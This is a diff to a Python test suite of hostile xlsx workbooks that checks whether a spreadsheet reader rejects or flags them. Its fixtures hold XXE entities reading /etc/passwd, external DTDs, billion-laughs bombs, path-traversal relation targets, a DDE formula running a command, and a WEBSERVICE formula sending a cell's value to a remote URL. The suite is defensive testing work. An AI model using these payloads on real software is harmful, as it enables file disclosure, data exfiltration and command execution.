@@ -2,10 +2,11 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
+from collections.abc import Iterable, Iterator
 from xml.sax.saxutils import escape
 
-from tests.hostile.case import Case, accepted, either, rejected, warned
+from tests.hostile.case import Answer, Case, Holds, Required, accepted, either, holding, rejected, warned
+from tests.hostile.elsewhere import SHARE, URL
 from tests.hostile.workbook import (
     BOOK,
     BOOK_RELATIONS,
@@ -119,14 +120,14 @@ def _two_sheets(name: str, about: str = "", part: str = _OTHER) -> bytes:
 
 
 def _external() -> bytes:
-    link = '<Relationship Id="rId1" Type="{}/externalLinkPath" Target="file:///\\\\198.51.100.7\\share\\b.xlsx" TargetMode="External"/>'
+    link = '<Relationship Id="rId1" Type="{}/externalLinkPath" Target="file:///{}\\b.xlsx" TargetMode="External"/>'
     return xlsx(
         {
             SHEET: sheet(C6=formula("C6", "[1]Other!$A$1", "12345")),
             BOOK: book_part(after='<externalReferences><externalReference r:id="rId8"/></externalReferences>'),
             _RELS: relations(*BOOK_RELATIONS, relation("rId8", "externalLink", "externalLinks/externalLink1.xml")),
             "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}"><externalBook r:id="rId1"/></externalLink>',
-            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(link.format(OFFICE)),
+            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(link.format(OFFICE, SHARE)),
         }
     )
 
@@ -248,9 +249,25 @@ def _elsewhere() -> bytes:
     return xlsx({**dict.fromkeys(parts()), **told})
 
 
+def _told_beside(cell: str) -> Holds:
+    """Ask that the whole report is read, and a lone figure elsewhere is an error with its cell."""
+
+    def holds(answer: Answer) -> Iterable[str]:
+        found = {o["cell"]: str(o["obs_value"]) for o in answer.observations("Report.xlsx")}
+        if found != {"B6": "7", "C6": "12345", "B7": "3", "C7": "678"}:
+            yield f"read instead: {found}"
+        told = [(f["code"], f["severity"], f["cell"]) for f in answer.findings("Report.xlsx")]
+        if told != [("LAYOUT_UNSURE", "error", cell)]:
+            yield f"told instead: {told}"
+        if answer.code != 1:
+            yield f"exit {answer.code}"
+
+    return holds
+
+
 CASES: tuple[Case, ...] = (
     rejected("c03_quadratic_sheet", "an entity of 50 kB used 20,000 times", _BOTH, _quadratic),
-    rejected("c06_ext_dtd", "an external document type with a parameter entity", _DAMAGED, lambda: with_sheet(_doctype('<!DOCTYPE x SYSTEM "http://198.51.100.7/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>'))),
+    rejected("c06_ext_dtd", "an external document type with a parameter entity", _DAMAGED, lambda: with_sheet(_doctype(f'<!DOCTYPE x SYSTEM "{URL}/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>'))),
     either("c09_gbk_sheet", "a sheet in GB2312", _DAMAGED, lambda: _in("gb2312"), label="北田"),
     rejected("c12_charref_nul", "references to characters 0 and 27", _DAMAGED, lambda: with_sheet(_doctype("", "&#0;&#27;"))),
     rejected("c14_huge_attr", "an attribute of 20 MB", _BOTH, _huge_attribute),
@@ -266,7 +283,8 @@ CASES: tuple[Case, ...] = (
     accepted("c44_richtext", "a district written in runs, with a guide to its sound", lambda: _strings_xml(_si('<si><r><t>東</t></r><r><rPr><b/></rPr><t>京</t></r><rPh sb="0" eb="2"><t>トウキョウ</t></rPh><phoneticPr fontId="1"/></si>')), label="東京"),
     accepted("c47_dim_huge", "the sheet says it is as large as a sheet can be", lambda: with_sheet(sheet(before='<dimension ref="A1:XFD1048576"/>'))),
     accepted("c50_dim_garbage", "the sheet says its size is #REF!", lambda: with_sheet(sheet(before='<dimension ref="#REF!"/>'))),
-    either("c53_sparse_row", "a figure at the end of the row, in XFD6", "LAYOUT_UNSURE", lambda: with_cells(D6=number("XFD6", "5")), cell="B6"),
+    # No header says what the far figure is: it is an error by itself, and costs the table beside it nothing.
+    Case("c53_sparse_row", "a figure at the end of the row, in XFD6", Required.SET, holding(lambda: with_cells(D6=number("XFD6", "5")), "Report.xlsx"), holds=_told_beside("XFD6")),
     accepted("c56_1M_rows", "as many rows as a sheet holds", _long, others=frozenset(map(str, range(1_048_577))), seconds=900, mib=8192),
     warned("sheet_full", "words and figures in the last two rows of the sheet", "SHEET_FULL", _full, others=frozenset({"7", "3", "678", "5"})),
     rejected("c59_dup_sheetnames", "two sheets named Report, with 12345 and 99999", _DAMAGED, lambda: _two_sheets("Report")),
@@ -282,7 +300,7 @@ CASES: tuple[Case, ...] = (
     rejected("xml_lol_rels", "a billion laughs in the relations", _DAMAGED, lambda: xlsx({_RELS: relations(*BOOK_RELATIONS).replace("<Relationships", f"{_LOL}<Relationships", 1)})),
     rejected("xml_lol_utf16", "a billion laughs in UTF-16", _DAMAGED, lambda: with_sheet(_doctype(_LOL, "&i;").replace('"UTF-8"', '"UTF-16"').encode("utf-16"))),
     rejected("xml_entity_file", "an entity that is a file of this machine", _DAMAGED, lambda: with_sheet(_doctype('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"))),
-    rejected("xml_entity_http", "an entity that is a page somewhere", _DAMAGED, lambda: with_sheet(_doctype('<!DOCTYPE x [<!ENTITY a SYSTEM "http://127.0.0.1:9/x">]>', "&a;"))),
+    rejected("xml_entity_http", "an entity that is a page somewhere", _DAMAGED, lambda: with_sheet(_doctype(f'<!DOCTYPE x [<!ENTITY a SYSTEM "{URL}/x">]>', "&a;"))),
     rejected("xml_entity_undeclared", "an entity that nothing declares", _DAMAGED, lambda: with_sheet(_doctype("", "&nbsp;"))),
     either("xml_doctype_empty", "a document type that declares nothing", _DAMAGED, lambda: with_sheet(_doctype("<!DOCTYPE worksheet>"))),
     either("xml_deep_100k", "100,000 elements within each other", _BOTH, lambda: _deep(100_000)),
@@ -335,7 +353,7 @@ CASES: tuple[Case, ...] = (
     accepted("rels_up_and_down", "the sheet by way of the folder above", lambda: _targeted("../xl/worksheets/sheet1.xml")),
     rejected("rels_outside", "the sheet is a file of this machine", _DAMAGED, lambda: _targeted("../../../../etc/passwd")),
     rejected("rels_file_url", "the sheet is a file by its address", _DAMAGED, lambda: _targeted("file:///etc/passwd", ' TargetMode="External"')),
-    rejected("rels_http", "the sheet is a page somewhere", _DAMAGED, lambda: _targeted("http://127.0.0.1:9/sheet1.xml", ' TargetMode="External"')),
+    rejected("rels_http", "the sheet is a page somewhere", _DAMAGED, lambda: _targeted(f"{URL}/sheet1.xml", ' TargetMode="External"')),
     either("rels_external_mode", "the sheet is said to be outside though its name is of a part", _DAMAGED, lambda: _targeted("worksheets/sheet1.xml", ' TargetMode="External"')),
     rejected("rels_loop", "the sheet is the workbook itself", f"{_DAMAGED} FILE_BLANK", lambda: _targeted("workbook.xml")),
     rejected("rels_empty", "the sheet's relation leads nowhere", _DAMAGED, lambda: _targeted("")),
@@ -350,9 +368,9 @@ CASES: tuple[Case, ...] = (
     either("rels_no_types", "the list of types is missing", _DAMAGED, lambda: xlsx({"[Content_Types].xml": None})),
     either("rels_types_lie", "the list of types says the workbook is a Word document", f"{_DAMAGED} FILE_TYPE", lambda: xlsx({"[Content_Types].xml": types(main="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")})),
     accepted("rels_dangling_drawing", "a drawing that is not there, as yearbooks have", lambda: xlsx({SHEET: sheet(after='<drawing r:id="rId1"/>'), "xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", "drawing", "../drawings/drawing1.xml"))})),
-    accepted("rels_attached_template", "a template on somebody's server", lambda: xlsx({"xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", "attachedTemplate", "http://127.0.0.1:9/t.dotm", ' TargetMode="External"'))})),
-    accepted("rels_remote_image", "a picture on somebody's server", lambda: xlsx({SHEET: sheet(after='<picture r:id="rId1"/>'), "xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", "image", "http://127.0.0.1:9/i.png", ' TargetMode="External"'))})),
-    accepted("rels_hyperlink_unc", "the district is a link to somebody's server", lambda: _hyperlinked("file:///\\\\198.51.100.7\\share")),
+    accepted("rels_attached_template", "a template on somebody's server", lambda: xlsx({"xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", "attachedTemplate", f"{URL}/t.dotm", ' TargetMode="External"'))})),
+    accepted("rels_remote_image", "a picture on somebody's server", lambda: xlsx({SHEET: sheet(after='<picture r:id="rId1"/>'), "xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", "image", f"{URL}/i.png", ' TargetMode="External"'))})),
+    accepted("rels_hyperlink_unc", "the district is a link to somebody's server", lambda: _hyperlinked(f"file:///{SHARE}")),
     accepted("sst_counts_lie", "the strings say there are 4,294,967,295 of them", lambda: xlsx({_SST: strings(about=' count="4294967295" uniqueCount="4294967295"')})),
     accepted("sst_counts_negative", "the strings say there are -1 of them", lambda: xlsx({_SST: strings(about=' count="-1" uniqueCount="-1"')})),
     accepted("sst_counts_words", "the strings say there are many of them", lambda: xlsx({_SST: strings(about=' count="many" uniqueCount="many"')})),
@@ -365,7 +383,7 @@ CASES: tuple[Case, ...] = (
     rejected("sst_figure_oob", "the figure is a shared string that is not there", _DAMAGED, lambda: with_cells(C6=typed("C6", "s", "999")), cell="C6"),
     rejected("sst_superscript_digits", "shared string ²", _DAMAGED, lambda: with_cells(A6=typed("A6", "s", "²")), cell="A6"),
     rejected("cell_nine_letters", "a cell whose reference has nine letters", _DAMAGED, lambda: with_cells(D6=number("ABCDEFGHI6", "5"))),
-    either("cell_lone_corner", "a lone cell in the last corner of the sheet", f"{_BOTH} NUMBER_UNEXPLAINED LAYOUT_UNSURE", lambda: with_sheet(sheet(rows() + f'<row r="1048576">{number("XFD1048576", "5")}</row>'))),
+    Case("cell_lone_corner", "a lone figure in the last corner of the sheet", Required.SET, holding(lambda: with_sheet(sheet(rows() + f'<row r="1048576">{number("XFD1048576", "5")}</row>')), "Report.xlsx"), holds=_told_beside("XFD1048576")),
     either("cell_far_text", "a lone word in XFD200000", f"{_BOTH} LAYOUT_UNSURE", lambda: with_sheet(sheet(rows() + f'<row r="200000">{text("XFD200000", "x")}</row>'))),
     rejected("cell_row_0", "a cell in row 0", _DAMAGED, lambda: with_sheet(sheet(f'<row r="0">{number("A0", "5")}</row>' + rows()))),
     rejected("cell_row_beyond", "a cell in row 1,048,577", _DAMAGED, lambda: with_sheet(sheet(rows() + f'<row r="1048577">{number("A1048577", "5")}</row>'))),
@@ -417,5 +435,5 @@ CASES: tuple[Case, ...] = (
     accepted("sheet_10k_hidden_rows", "a million empty hidden rows in a few marks", lambda: with_sheet(sheet(rows() + "".join(f'<row r="{n}" hidden="1"/>' for n in range(20, 10_020))))),
     accepted("sheet_validations", "10,000 rules of what may be typed", lambda: with_sheet(sheet(after="<dataValidations>" + "".join(f'<dataValidation type="list" sqref="E{n}"><formula1>"a,b"</formula1></dataValidation>' for n in range(1, 10_001)) + "</dataValidations>"))),
     accepted("sheet_dde", "a formula in an empty corner that runs a command", lambda: with_cells(C6=number("C6", "12345"), E9=formula("E9", "cmd|'/c calc'!A0", "", "str"))),
-    accepted("sheet_webservice", "a formula that asks somebody's server", lambda: with_cells(E9=formula("E9", 'WEBSERVICE("http://127.0.0.1:9/"&C6)', "", "str"))),
+    accepted("sheet_webservice", "a formula that asks somebody's server", lambda: with_cells(E9=formula("E9", f'WEBSERVICE("{URL}/"&C6)', "", "str"))),
 )  # fmt: skip
